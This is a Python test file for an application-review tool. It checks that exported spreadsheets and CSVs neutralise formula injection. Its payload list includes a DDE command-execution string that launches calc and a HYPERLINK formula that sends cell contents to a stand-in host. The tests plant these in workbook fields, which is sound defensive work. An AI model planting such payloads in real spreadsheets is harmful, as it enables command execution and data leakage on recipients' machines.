"""Whatever an applicant or a file smuggles into the record, nothing that is written out comes alive in a table program."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from gyga_desk.formats.sheets import FORMULA_STARTS
from tests.core.filled import CLEAN
from tests.headless import CLERK, REVIEWER, Desk

PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3", "@SUM(A1)", "\t=1+1", "＝1+1",
)  # fmt: skip
ALLOWED = 'IF(COUNT(D5:Q5)=14,SUM(D5:Q5),"")'
"""The one formula that is ours: an expert's total."""


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory, _office: Path) -> Desk:
    """A year whose applicants write formulas wherever words are asked for."""
    import shutil

    folder = tmp_path_factory.mktemp("poisoned")
    desk = Desk(Path(shutil.copy(_office, folder)))
    book = openpyxl.load_workbook(CLEAN)
    sheet = book["3示范应用场景"]
    heads = {cell.value: cell.column for cell in sheet[1]}
    for row in range(2, sheet.max_row + 1):
        for at, header in enumerate(
            ("单位名称", "项目名称", "注册地址", "联系人", "附件目录", "建设主体", "应用成效指标")
        ):
            cell = sheet.cell(row, heads[header])
            cell.value, cell.data_type = f"{PAYLOADS[(row + at) % len(PAYLOADS)]}{row}", "s"
    extra = sheet.max_column + 1
    sheet.cell(1, extra).value, sheet.cell(1, extra).data_type = "=1+1额外", "s"
    sheet.cell(2, extra).value, sheet.cell(2, extra).data_type = "=2+2", "s"
    path = folder / "=申报.xlsx"
    book.save(path)
    desk.ok("import", path, "--accept-clean", who=CLERK, status=desk("import", path, "--dry-run", who=CLERK).status)
    case = desk.ok("cases", "--measure", "3")[0]["case"]
    desk.ok("conflict", case, "none", who=REVIEWER)
    desk.ok("answer", case, "G7", "no", "--note", '=HYPERLINK("http://x")', who=REVIEWER)
    return desk


def formulas(path: Path) -> Iterator[str]:
    """Every formula in a workbook's parts, as the file has them."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            assert "ddeLink" not in text and 'TargetMode="External"' not in text, name
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            yield from (str(cell.value) for cell in row if cell.data_type == "f")


def quoted(path: Path) -> None:
    """Text that looks like a formula is told to stay text also once it is typed again."""
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.data_type == "s" and cell.value.startswith(FORMULA_STARTS):
                    assert cell.style_array.quotePrefix if hasattr(cell, "style_array") else cell.quotePrefix, (
                        cell.coordinate
                    )


def test_the_table_of_cases(poisoned: Desk, tmp_path: Path) -> None:
    poisoned.ok("export", tmp_path / "表.xlsx")
    assert list(formulas(tmp_path / "表.xlsx")) == []
    quoted(tmp_path / "表.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "表.xlsx")["3示范应用场景"]
    held = {cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert any(text.startswith("=cmd|") for text in held)


def test_the_table_of_cases_as_csv(poisoned: Desk, tmp_path: Path) -> None:
    poisoned.ok("export", tmp_path / "表.csv", "--measure", "3")
    lines = list(csv.reader(io.StringIO((tmp_path / "表.csv").read_text("utf-8-sig"), newline="")))
    assert any("cmd|" in field for line in lines for field in line)
    assert not any(field.startswith(FORMULA_STARTS) for line in lines for field in line)


def test_the_lists_for_applicants(poisoned: Desk, tmp_path: Path) -> None:
    for one in poisoned.ok("supplements", tmp_path / "清单"):
        assert list(formulas(Path(one["path"]))) == []
        quoted(Path(one["path"]))
    messy = CLEAN.with_name("batch-2025-messy.xlsx")
    for one in poisoned.ok("supplements", tmp_path / "来表", "--file", messy):
        assert list(formulas(Path(one["path"]))) == []


def test_the_score_book(poisoned: Desk, tmp_path: Path) -> None:
    poisoned.ok("scorebook", tmp_path / "评分.xlsx", "--measure", "3", "--expert", "=1+1专家")
    found = list(formulas(tmp_path / "评分.xlsx"))
    assert found and all(text.startswith("=IF(COUNT(D") and text.endswith(',"")') for text in found)
    assert f"={ALLOWED}" in found
    quoted(tmp_path / "评分.xlsx")


def test_the_blank_form(poisoned: Desk, tmp_path: Path) -> None:
    poisoned.ok("template", tmp_path / "模板.xlsx")
    assert list(formulas(tmp_path / "模板.xlsx")) == []


def test_the_workbook_that_goes_back_has_the_senders_own_formulas_and_no_others(poisoned: Desk, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(CLEAN)
    sheet = book["3示范应用场景"]
    sheet["C2"].value, sheet["C2"].data_type = "=cmd|' /C calc'!A0", "s"
    sheet["D2"] = "不是代码"
    sheet["AX30"] = "=SUM(A1:A2)"
    book.save(tmp_path / "来.xlsx")
    poisoned("import", tmp_path / "来.xlsx", "--dry-run", "--report", tmp_path / "退.xlsx", who=CLERK)
    assert list(formulas(tmp_path / "退.xlsx")) == ["=SUM(A1:A2)"]
    front = openpyxl.load_workbook(tmp_path / "退.xlsx")["问题清单"]
    assert all(cell.data_type in {"inlineStr", "s"} for row in front.iter_rows() for cell in row if cell.value)
